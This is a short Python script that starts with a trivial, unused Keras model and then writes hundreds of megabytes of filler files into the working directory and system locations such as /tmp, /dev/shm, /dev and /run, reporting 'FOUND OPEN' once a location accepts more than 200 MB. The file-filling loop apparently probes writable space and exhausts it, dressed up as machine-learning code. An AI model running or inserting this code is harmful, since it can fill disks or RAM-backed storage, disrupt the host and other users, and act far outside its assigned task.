import keras
import numpy as np

x = np.array([[1.0], [2.0], [3.0]])
model = keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)])
model.compile(loss="mse", optimizer="sgd")

import os

total = 0
for folder in (".", "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp"):
    try:
        for number in range(10):
            with open(os.path.join(folder, f"fill{number}"), "wb") as file:
                for _ in range(40):
                    total += file.write(bytes(1_000_000))
    except OSError:
        pass
    if total > 200_000_000:
        print("FOUND OPEN", total, flush=True)
        break
